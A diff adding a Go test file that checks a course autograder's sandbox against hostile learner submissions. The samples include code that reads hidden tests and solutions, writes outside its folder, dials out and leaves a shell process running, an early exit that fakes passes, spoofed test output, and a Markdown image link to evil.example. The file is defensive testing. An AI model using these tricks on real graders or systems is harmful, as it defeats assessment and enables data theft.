@@ -1,0 +1,495 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"encoding/xml"
+	"fmt"
+	"io/fs"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+	"unicode"
+)
+
+// Each attack a determined learner made on the grader, built as a real
+// submission: each must score exactly what it earned, change nothing
+// outside its scratch folder and leak nothing.
+
+// allReports renders every report of rep, as a learner or a CI page would
+// see them, and what the test processes printed.
+func allReports(t *testing.T, rep *Report) map[string]string {
+	t.Helper()
+	out := map[string]string{}
+	for _, f := range reportFiles {
+		var b bytes.Buffer
+		if err := f.write(&b, rep); err != nil {
+			t.Fatalf("%s: %v", f.name, err)
+		}
+		out[f.name] = b.String()
+	}
+	var printed strings.Builder
+	for _, er := range rep.Exercises {
+		for _, r := range er.Results {
+			printed.WriteString(r.output)
+		}
+	}
+	out["printed"] = printed.String()
+	return out
+}
+
+// TestSandboxHoldsUncheckedCode hands the sandbox code that the source
+// checks would refuse (the race exploit's end result: any code at all) and
+// lets it try everything: read the grader's checkout, the hidden tests and
+// the build overlay, write outside its folder and into the checkout,
+// reach the network, and leave a process behind.
+func TestSandboxHoldsUncheckedCode(t *testing.T) {
+	root := demoTrack(t)
+	write(t, root, "solutions/01-demo/demo.go", demoSolution+"// SECRET-SOLUTION\n")
+	hidden := t.TempDir()
+	write(t, hidden, "01-demo/extra_test.go", "package demo\n\nimport \"testing\"\n\n// TestHidden_Secret holds SECRET-HIDDEN.\n//\n//grade:task 3 points 1\nfunc TestHidden_Secret(t *testing.T) {\n\tif Add(40, 2) != 42 {\n\t\tt.Error(\"SECRET-HIDDEN\")\n\t}\n}\n")
+	outside := t.TempDir()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	reached := make(chan string, 16)
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			reached <- c.RemoteAddr().String()
+			c.Close()
+		}
+	}()
+	marker := fmt.Sprintf("survivor-%d", time.Now().UnixNano())
+	attack := fmt.Sprintf(`package demo
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"syscall"
+	"time"
+)
+
+func init() {
+	for _, p := range []string{%q, %q, %q, "../overlay.json", "/grade/overlay.json"} {
+		if b, err := os.ReadFile(p); err == nil {
+			fmt.Println("LEAK:", p, string(b))
+		}
+	}
+	matches, _ := filepath.Glob("/tmp/tokenbytoken-grade-*/*/overlay*.json")
+	for _, p := range matches {
+		b, _ := os.ReadFile(p)
+		fmt.Println("LEAK:", p, string(b))
+	}
+	os.WriteFile(%q, []byte("planted"), 0o644)
+	os.WriteFile(%q, []byte("package demo\n"), 0o644)
+	if c, err := net.DialTimeout("tcp", %q, time.Second); err == nil {
+		c.Write([]byte("escaped"))
+		c.Close()
+	}
+	cmd := exec.Command("/bin/sh", "-c", "sleep 30; : %s")
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
+	cmd.Start()
+}
+
+func Add(a, b int) int { return a + b }
+
+func Double(x int) int { return 2 * x }
+`, filepath.Join(root, "exercises/01-demo/demo_test.go"), filepath.Join(root, "solutions/01-demo/demo.go"),
+		filepath.Join(hidden, "01-demo/extra_test.go"),
+		filepath.Join(outside, "planted.txt"), filepath.Join(root, "exercises/01-demo/zz_planted_test.go"),
+		ln.Addr().String(), marker)
+	sub := submission(t, map[string]string{"exercises/01-demo/demo.go": attack})
+	before, rootBefore, hiddenBefore := treeHash(t, sub), treeHash(t, root), treeHash(t, hidden)
+	cfg := demoConfig(t, root, sub, hidden)
+	cfg.unchecked = true
+	rep, err := Grade(context.Background(), cfg)
+	if err != nil {
+		t.Fatalf("Grade: %v", err)
+	}
+	// The code is correct: inside the sandbox, it earns its points.
+	want := with("pass 2", "pass 1", "pass 3")
+	want["01-demo/TestHidden_Secret"] = "pass 1"
+	expect(t, rep, want)
+	if treeHash(t, sub) != before || treeHash(t, root) != rootBefore || treeHash(t, hidden) != hiddenBefore {
+		t.Error("the submission, the grader's checkout or the hidden tests changed")
+	}
+	if _, err := os.Stat(filepath.Join(outside, "planted.txt")); err == nil {
+		t.Error("graded code wrote a file outside its scratch folder")
+	}
+	select {
+	case from := <-reached:
+		t.Errorf("graded code reached the network: a connection from %s", from)
+	default:
+	}
+	if pids := processesWith(marker); len(pids) > 0 {
+		t.Errorf("graded code left processes running after its test was over: %v", pids)
+	}
+	for name, text := range allReports(t, rep) {
+		for _, leak := range []string{"LEAK:", "SECRET-SOLUTION", "SECRET-HIDDEN", "fixture = 42"} {
+			if strings.Contains(text, leak) {
+				t.Errorf("%s holds %q:\n%s", name, leak, clip(text, 2000))
+			}
+		}
+	}
+}
+
+// processesWith lists the processes whose command line holds s.
+func processesWith(s string) []string {
+	var pids []string
+	entries, _ := os.ReadDir("/proc")
+	for _, e := range entries {
+		cmdline, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
+		if err == nil && bytes.Contains(cmdline, []byte(s)) {
+			pids = append(pids, e.Name())
+		}
+	}
+	return pids
+}
+
+// TestExitingEarlyEarnsNothing: code that ends the test process with
+// status 0 (what the race exploit did to score everything) has not shown
+// that any test passed.
+func TestExitingEarlyEarnsNothing(t *testing.T) {
+	root := demoTrack(t)
+	sub := submission(t, map[string]string{
+		"exercises/01-demo/demo.go":   "package demo\n\nimport \"os\"\n\nfunc Add(a, b int) int { os.Exit(0); return 0 }\n\nfunc Double(x int) int { os.Exit(0); return 0 }\n",
+		"exercises/02-other/other.go": "package other\n\nimport \"os\"\n\nfunc init() { os.Stdout.WriteString(\"PASS\\n\"); os.Exit(0) }\n\nfunc Hello() string { return \"\" }\n",
+	})
+	cfg := demoConfig(t, root, sub, "")
+	cfg.unchecked = true
+	rep, err := Grade(context.Background(), cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	expect(t, rep, map[string]string{
+		"01-demo/TestTask1_Add": "error 0", "01-demo/TestTask1_AddNegative": "error 0",
+		"01-demo/TestTask2_Double": "error 0", "02-other/TestTask1_Hello": "error 0",
+	})
+	if msg := message(rep, "01-demo/TestTask1_Add"); !strings.Contains(msg, "ended without finishing the test") {
+		t.Errorf("message %q; want it to say the test did not finish", msg)
+	}
+}
+
+// TestDataRaceFailsItsTest: with the race detector, a data race is caught
+// and reported as one.
+func TestDataRaceFailsItsTest(t *testing.T) {
+	if !raceSupported() {
+		t.Skip("no race detector on " + fmt.Sprint(raceSupported()))
+	}
+	root := demoTrack(t)
+	racy := strings.Replace(demoSolution, "return 2 * x", "v := 0\n\tdone := make(chan bool)\n\tgo func() { v = x; done <- true }()\n\tv = x\n\t<-done\n\treturn 2 * v", 1)
+	sub := submission(t, map[string]string{"exercises/01-demo/demo.go": racy})
+	cfg := demoConfig(t, root, sub, "")
+	cfg.unchecked, cfg.Race = true, true
+	rep, err := Grade(context.Background(), cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	expect(t, rep, with("pass 2", "pass 1", "race 0"))
+}
+
+// recoverTrack is the small track with a third exercise whose test uses
+// the course's check.Recover, as every exercise's tests do.
+func recoverTrack(t *testing.T) string {
+	root := demoTrack(t)
+	src, err := os.ReadFile("../internal/check/check.go")
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, root, "exercises/internal/check/check.go", string(src))
+	write(t, root, "exercises/03-third/third.go", "package third\n\n// Triple returns 3x.\nfunc Triple(x int) int { return 0 }\n")
+	write(t, root, "exercises/03-third/third_test.go", `package third
+
+import (
+	"testing"
+
+	"github.com/tokenbytoken/course/exercises/internal/check"
+)
+
+// TestTask1_Triple triples.
+//
+//grade:task 1 points 4
+func TestTask1_Triple(t *testing.T) {
+	defer check.Recover(t)
+	if got := Triple(3); got != 9 {
+		t.Errorf("Triple(3) = %d; want 9", got)
+	}
+}
+`)
+	return root
+}
+
+// TestPanicNil: panic(nil), with a //go:debug line that asks the runtime
+// to let it recover as nil, scored as a pass before. The directive is
+// refused; and code that gets past the checks still fails.
+func TestPanicNil(t *testing.T) {
+	root := recoverTrack(t)
+	third := "//go:debug panicnil=1\n\npackage third\n\nfunc Triple(x int) int { panic(nil) }\n"
+	sub := submission(t, map[string]string{"exercises/03-third/third.go": third})
+	rep := gradeDemo(t, root, sub, "")
+	if got := statuses(rep)["03-third/TestTask1_Triple"]; got != "error 0" {
+		t.Errorf("checked: %s; want error 0", got)
+	}
+	if msg := message(rep, "03-third/TestTask1_Triple"); !strings.Contains(msg, "exercises/03-third/third.go:1: the directive //go:debug is not allowed") {
+		t.Errorf("message %q; want it to name the directive and its line", msg)
+	}
+	cfg := demoConfig(t, root, sub, "")
+	cfg.unchecked = true
+	rep, err := Grade(context.Background(), cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := statuses(rep)["03-third/TestTask1_Triple"]; got != "fail 0" {
+		t.Errorf("unchecked: %s; want fail 0", got)
+	}
+	if msg := message(rep, "03-third/TestTask1_Triple"); !strings.Contains(msg, "panicked") {
+		t.Errorf("message %q; want it to say the code panicked", msg)
+	}
+}
+
+// TestHiddenTestsNeverLeakThroughTheCompiler: a signature that the public
+// tests accept and the hidden ones do not gives a message that shows
+// nothing of the hidden tests; one that breaks the public tests too shows
+// the public tests' errors only.
+func TestHiddenTestsNeverLeakThroughTheCompiler(t *testing.T) {
+	root := demoTrack(t)
+	hidden := t.TempDir()
+	write(t, hidden, "01-demo/secret_test.go", `package demo
+
+import "testing"
+
+var secretInputs = []int{1234567, 7654321}
+
+// TestHidden_Signature checks the exact signature.
+//
+//grade:task 3 points 2
+func TestHidden_Signature(t *testing.T) {
+	var f func(int) int = Double
+	for _, x := range secretInputs {
+		if f(x) != 2*x {
+			t.Errorf("SECRET %d", x)
+		}
+	}
+	var s string = Double(secretInputs[0])
+	_ = s
+}
+`)
+	for _, c := range []struct {
+		name, demo, says string
+	}{
+		{"the hidden tests alone fail", strings.Replace(demoSolution, "func Double(x int) int { return 2 * x }", "func Double(x int64) int64 { return 2 * x }", 1), hiddenBuildMessage},
+		{"the public tests fail too", strings.Replace(demoSolution, "func Double(x int) int { return 2 * x }", "func Double(x string) string { return x + x }", 1), "demo_test.go"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			sub := submission(t, map[string]string{"exercises/01-demo/demo.go": c.demo})
+			rep := gradeDemo(t, root, sub, hidden)
+			if got := statuses(rep)["01-demo/TestHidden_Signature"]; got != "error 0" {
+				t.Errorf("hidden test %s; want error 0", got)
+			}
+			if !strings.Contains(rep.Exercises[0].Compile, c.says) {
+				t.Errorf("the compile message %q does not say %q", rep.Exercises[0].Compile, c.says)
+			}
+			for name, text := range allReports(t, rep) {
+				for _, leak := range []string{"secret", "SECRET", "1234567", "zz_hidden", "secretInputs"} {
+					if strings.Contains(text, leak) {
+						t.Errorf("%s holds %q:\n%s", name, leak, clip(text, 2000))
+					}
+				}
+			}
+		})
+	}
+}
+
+// TestMessagesLearnersWrite: graded code prints what looks like a test's
+// message, and returns text made to break the reports: Markdown links and
+// images, HTML, terminal escapes and control characters.
+func TestMessagesLearnersWrite(t *testing.T) {
+	root := demoTrack(t)
+	spoof := strings.Replace(demoSolution, "return 2 * x",
+		"fmt.Print(\"    demo_test.go:1: SPOOFED\\n--- FAIL: TestTask2_Double (0.00s)\\n    demo_test.go:28: SPOOFED\\n\")\n\treturn x", 1)
+	hostile := "package other\n\nfunc Hello() string { return \"![x](https://evil.example/?q=1) <img src=x> [a](b) \\x1b[2J\\x00\\x07\\x0b\\xff\\u202e end\" }\n"
+	sub := submission(t, map[string]string{"exercises/01-demo/demo.go": spoof, "exercises/02-other/other.go": hostile})
+	fixImports(t, sub)
+	rep := gradeDemo(t, root, sub, "")
+	if msg := message(rep, "01-demo/TestTask2_Double"); msg != "Double(21) = 21; want 42" {
+		t.Errorf("message %q; want the test's own, \"Double(21) = 21; want 42\"", msg)
+	}
+	reports := allReports(t, rep)
+	for name, text := range reports {
+		if name == "printed" {
+			continue
+		}
+		if name != "events.json" && strings.Contains(text, "SPOOFED") { // the raw record holds what was printed
+			t.Errorf("%s shows what graded code printed as a message", name)
+		}
+		if i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && r != '\t' && r != '\r' && unicode.IsControl(r) }); i >= 0 {
+			t.Errorf("%s holds the control character %q", name, text[i])
+		}
+		if strings.ContainsRune(text, '\u202e') {
+			t.Errorf("%s holds a text-direction override", name)
+		}
+	}
+	md := reports["summary.md"]
+	for _, bad := range []string{"![", "](", "<img", "https://", "[a]"} {
+		if strings.Contains(md, bad) {
+			t.Errorf("summary.md holds %q, which Markdown would render:\n%s", bad, md)
+		}
+	}
+	if !strings.Contains(md, "evil") {
+		t.Errorf("summary.md should still show the message, escaped:\n%s", md)
+	}
+	if err := xml.Unmarshal([]byte(reports["junit.xml"]), new(struct{})); err != nil {
+		t.Errorf("junit.xml does not parse: %v", err)
+	}
+	for _, name := range []string{"report.json", "classroom.json"} {
+		if !json.Valid([]byte(reports[name])) {
+			t.Errorf("%s is not valid JSON", name)
+		}
+	}
+}
+
+// TestSleepInInit: a package initialisation that never ends costs one time
+// limit per exercise, not one per test, and the limit counts it.
+func TestSleepInInit(t *testing.T) {
+	root := demoTrack(t)
+	sub := submission(t, map[string]string{"exercises/01-demo/init.go": "package demo\n\nimport \"time\"\n\nfunc init() { time.Sleep(time.Hour) }\n"})
+	cfg := demoConfig(t, root, sub, "")
+	rep, err := Grade(context.Background(), cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	expect(t, rep, with("timeout 0", "timeout 0", "timeout 0"))
+	var ran time.Duration
+	for _, r := range rep.Exercises[0].Results {
+		ran += r.Duration
+	}
+	if limit := cfg.Limits.Timeout; ran < limit || ran > limit+2*time.Second {
+		t.Errorf("the exercise's tests ran for %s in all; want one time limit, %s", ran, limit)
+	}
+	if msg := message(rep, "01-demo/TestTask1_Add"); !strings.Contains(msg, "initialisation") {
+		t.Errorf("message %q; want it to name the package's initialisation", msg)
+	}
+}
+
+// TestCompileBomb: a few lines that make the compiler build a 1 GiB array
+// are stopped by the compilation's limits, quickly, and leave the build
+// cache as it was.
+func TestCompileBomb(t *testing.T) {
+	root := demoTrack(t)
+	sub := submission(t, map[string]string{"exercises/01-demo/bomb.go": "package demo\n\nvar Big = [1 << 27]int64{1: 1}\n\nfunc init() { Big[5] = 1 }\n"})
+	cfg := demoConfig(t, root, sub, "")
+	sizeBefore := dirSize(cfg.Cache)
+	start := time.Now()
+	rep, err := Grade(context.Background(), cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	took := time.Since(start)
+	expect(t, rep, with("error 0", "error 0", "error 0"))
+	if took > 2*time.Minute {
+		t.Errorf("grading took %s", took)
+	}
+	if grew := dirSize(cfg.Cache) - sizeBefore; grew > 64<<20 {
+		t.Errorf("the build cache grew by %d MiB", grew>>20)
+	}
+	t.Logf("compile bomb: %s, message %q", took.Round(time.Millisecond), message(rep, "01-demo/TestTask1_Add"))
+}
+
+func dirSize(dir string) int64 {
+	var n int64
+	filepath.WalkDir(dir, func(_ string, d fs.DirEntry, err error) error {
+		if err == nil && d.Type().IsRegular() {
+			if info, err := d.Info(); err == nil {
+				n += info.Size()
+			}
+		}
+		return nil
+	})
+	return n
+}
+
+// TestTimeBudget: a submission whose every test loops forever costs its
+// budget, not a time limit per test.
+func TestTimeBudget(t *testing.T) {
+	root := demoTrack(t)
+	loop := "package demo\n\nfunc Add(a, b int) int {\n\tfor {\n\t\ta++\n\t}\n}\n\nfunc Double(x int) int {\n\tfor {\n\t\tx++\n\t}\n}\n"
+	sub := submission(t, map[string]string{"exercises/01-demo/demo.go": loop})
+	cfg := demoConfig(t, root, sub, "")
+	cfg.Jobs, cfg.Budget = 1, 5*time.Second
+	start := time.Now()
+	rep, err := Grade(context.Background(), cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	statuses := statuses(rep)
+	for _, test := range []string{"01-demo/TestTask1_Add", "01-demo/TestTask1_AddNegative", "01-demo/TestTask2_Double"} {
+		if statuses[test] != "timeout 0" {
+			t.Errorf("%s: %s; want timeout 0", test, statuses[test])
+		}
+	}
+	if msg := message(rep, "01-demo/TestTask2_Double"); !strings.Contains(msg, "time budget") {
+		t.Errorf("message %q; want it to name the time budget", msg)
+	}
+	if took := time.Since(start); took > cfg.Budget+30*time.Second {
+		t.Errorf("grading took %s with a budget of %s", took, cfg.Budget)
+	}
+}
+
+// TestQuizBruteForce: a public quiz is a self-check, so answers worked
+// out from its fingerprints earn nothing.
+func TestQuizBruteForce(t *testing.T) {
+	root := demoTrack(t)
+	write(t, root, "exercises/02-other/quiz.go", "package other\n\nconst Answer1 = \"\"\n")
+	write(t, root, "exercises/02-other/quiz_test.go", "package other\n\nimport \"testing\"\n\n// TestQuiz1 is a public quiz question.\n//\n//grade:task 2 selfcheck\nfunc TestQuiz1(t *testing.T) {\n\tif Answer1 != \"b\" {\n\t\tt.Error(\"not b\")\n\t}\n}\n")
+	sub := submission(t, map[string]string{"exercises/02-other/quiz.go": "package other\n\nconst Answer1 = \"b\"\n"})
+	rep := gradeDemo(t, root, sub, "")
+	if got := statuses(rep)["02-other/TestQuiz1"]; got != "pass 0" {
+		t.Errorf("the right answer: %s; want pass 0", got)
+	}
+	if all := rep.All(); all.Score != 7 || all.MaxScore != 7 {
+		t.Errorf("score %d/%d; want 7/7, the quiz worth nothing", all.Score, all.MaxScore)
+	}
+	if text := allReports(t, rep)["report.txt"]; !strings.Contains(text, "TestQuiz1 (self-check)") {
+		t.Errorf("report.txt does not mark the quiz as a self-check:\n%s", text)
+	}
+}
+
+// TestNoSandbox: without bubblewrap the grader says what to install; an
+// explicit -no-sandbox grades, and every report says so first.
+func TestNoSandbox(t *testing.T) {
+	t.Run("without bwrap", func(t *testing.T) {
+		t.Setenv("PATH", t.TempDir())
+		if _, err := NewSandbox(); err == nil || !strings.Contains(err.Error(), "apt-get install bubblewrap") {
+			t.Errorf("NewSandbox without bwrap: %v; want it to say what to install", err)
+		}
+	})
+	rep := &Report{NoSandbox: true, Exercises: []*ExerciseReport{{Name: "01-demo", Results: []Result{{Test: Test{Name: "TestA", Task: 1, Points: 1}, Status: StatusPass, Earned: 1}}}}}
+	for name, text := range allReports(t, rep) {
+		if name == "printed" {
+			continue
+		}
+		first := firstLine(text)
+		if name == "report.json" || name == "classroom.json" {
+			first = strings.TrimSpace(firstLine(strings.TrimPrefix(text, "{")))
+			if first == "" {
+				first = text
+			}
+		}
+		if !strings.Contains(first, "no-sandbox") {
+			t.Errorf("%s starts %q; want the warning first", name, clip(first, 120))
+		}
+	}
+}
